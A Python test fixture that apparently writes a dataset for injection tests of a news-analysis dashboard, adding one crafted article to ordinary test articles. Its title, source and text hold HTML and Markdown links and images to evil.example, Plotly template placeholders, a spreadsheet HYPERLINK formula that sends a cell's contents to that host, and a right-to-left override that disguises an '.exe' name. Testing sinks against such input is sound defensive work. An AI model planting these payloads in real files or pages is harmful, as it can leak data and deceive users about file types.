"""A dataset for the injection tests: the app tests' articles plus one whose outlet name, title and
text carry every kind of markup an attacker could hope a sink would interpret: HTML tags, a
Markdown link and image, a Plotly template, spreadsheet formulas, and a right-to-left override."""

from __future__ import annotations

from pathlib import Path

from app_synthetic import write_articles

EVIL_HOST = "evil.example"
RLO = "\u202e"
EVIL_SOURCE = (f'@SUM(1+1) <a href="http://{EVIL_HOST}/a">link</a> <img src=http://{EVIL_HOST}/i.png> '
               f"![pic](http://{EVIL_HOST}/m.png) %{{x}} :red[red] {RLO}gpj.exe")
EVIL_TITLE = f'=HYPERLINK("http://{EVIL_HOST}/?"&A1,"x") <b>bold</b> %{{y}} {RLO}gpj.exe'
EVIL_ID = "evil"
EVIL_ARTICLE = (f"title: {EVIL_TITLE}\n"
                f"source: {EVIL_SOURCE}\n"
                "date: 2022-02-01\n"
                "---\n"
                "-2+3 مقال عن كازاخستان وروسيا والصين في أستانا.\n"
                f"سطر ثان عن <a href='http://{EVIL_HOST}/t'>كازاخستان</a> وروسيا {RLO}gpj.exe والرئيس توكاييف.\n")


def write_dataset(out: Path) -> Path:
    from dashboard.paths import CATALOGUE_DIR
    from dashboard.pipeline.run import build

    inputs = write_articles(out.parent / f"{out.name}_inputs")
    (inputs / f"{EVIL_ID}.txt").write_text(EVIL_ARTICLE, encoding="utf-8")
    build([inputs], out, CATALOGUE_DIR, workers=1)
    return out
